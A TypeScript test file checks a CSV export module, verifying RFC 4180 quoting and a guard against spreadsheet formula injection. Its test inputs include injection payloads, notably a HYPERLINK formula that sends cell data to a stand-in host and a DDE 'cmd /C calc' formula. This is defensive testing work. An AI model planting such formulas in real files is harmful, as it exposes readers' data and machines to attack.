import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { byteOrderMark, csvLine } from '@/lib/history/export/csv';
import { writers } from '@/lib/history/export/format';
import { columns, type ExportRow } from '@/lib/history/export/row';
import { readCsv } from '../../support/read-csv';

const one = (value: string) => readCsv(csvLine([value]))[0]?.[0];

describe('a line of CSV', () => {
  test('is a record of RFC 4180', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\r\nlines', null, 1.5, ''])).toBe(
      'plain,"a,b","say ""hi""","two\r\nlines",,1.5,\r\n',
    );
  });

  test.each([
    '=1+2',
    '+44 7700 900123',
    '-2+3',
    '@SUM(A1)',
    '\tharmless but a tab',
    ' =1',
    '   +1',
    '"=1',
    "'=1",
    ' "\' @cmd',
    '\u00A0=1',
    '\uFEFF=1',
    '＝1+2',
    '＋1',
    '－1',
    '＠A1',
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
  ])('makes a text of what a spreadsheet would run: %j', (value) => {
    expect(one(value)).toBe(`'${value}`);
  });

  test.each([
    [";=cmd|' /C calc'!A0;", ";'=cmd|' /C calc'!A0;"],
    ['x;=1', "x;'=1"],
    ['x\t+1', "x\t'+1"],
    ['x|@a', "x|'@a"],
    ['x, -1', "x, '-1"],
    ['x\n=1', "x\n'=1"],
    ['x;"=1', 'x;"\'=1'],
    ["x;'=1", "x;''=1"],
    ['=1;=2', "'=1;'=2"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
  ])('nor anything behind another separator: %j', (value, text) => {
    expect(one(value)).toBe(text);
  });

  test.each(['a=1', 'Anne-Marie', 'x@y.example', "O'Brien", '1-2', ' plain', '"quoted"', "'", ''])(
    'leaves alone what no spreadsheet would run: %j',
    (value) => {
      expect(one(value)).toBe(value);
    },
  );

  test('leaves our own numbers numbers', () => {
    expect(csvLine([-0.3, 12.5])).toBe('-0.3,12.5\r\n');
  });

  test('gives back what was put in, once the apostrophe is off', () => {
    const tricky = fc.string({
      unit: fc.oneof(
        fc.constantFrom(',', ';', '|', '"', "'", '\r', '\n', '\t', ' ', '=', '+', '-', '@', 'x', '＝'),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      ),
      maxLength: 12,
    });
    fc.assert(
      fc.property(fc.array(fc.array(tricky, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        const read = readCsv(rows.map((row) => csvLine(row)).join(''));
        expect(read.map((row) => row.map(withoutGuard))).toEqual(rows);
      }),
    );
  });
});

/** As the file's readers are told: whatever begins dangerously behind an apostrophe got it from us. */
function withoutGuard(text: string): string {
  const cell = text.replace(/([;\t|,\r\n][\s"']*)'([=+\-@＝＋－＠])/g, '$1$2');
  const rest = cell.replace(/^[\s"']+/, '');
  const isFormula = /^[=+\-@＝＋－＠]/.test(rest) || /^[ "']*[\t\r\n]/.test(cell);
  return isFormula ? cell.slice(1) : cell;
}

describe('the files', () => {
  const row: ExportRow = {
    id: 'ver_1',
    requested_at: '2026-03-02T09:00:00.000Z',
    ended_at: null,
    answer_seconds: 4.2,
    status: 'pending',
    reason: null,
    detail: '=detail',
    purpose: 'account_access',
    delivery: 'poll',
    staff_id: 'staff-ann',
    staff_name: 'Ann "the" Agent',
    customer_id: 'C-1',
    customer_number: 'C-1',
    customer_name: 'Łukasz, Zoë',
    call_reference: null,
    transfer_id: null,
    scope: 'openid profile',
    binding_message: null,
    grant_end: null,
    data_first_viewed_at: null,
    report_sources: 'provider staff',
    denial_answer: null,
  };

  test('of CSV begin with the mark spreadsheets know UTF-8 by, and name their columns', () => {
    const { head, line } = writers.csv;
    expect(head.startsWith(byteOrderMark)).toBe(true);
    const [names, values] = readCsv(head.slice(1) + line(row));
    expect(names).toEqual(columns);
    expect(values).toEqual(
      columns.map((column) => (column === 'detail' ? "'=detail" : String(row[column] ?? ''))),
    );
  });

  test('of JSON Lines have the same with types, an object a line', () => {
    const { head, line } = writers.jsonl;
    const text = head + line(row) + line({ ...row, detail: 'two\nlines' });
    const lines = text.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(JSON.parse(lines[0] ?? '')).toEqual(row);
    expect(Object.keys(JSON.parse(lines[1] ?? ''))).toEqual(columns);
  });
});
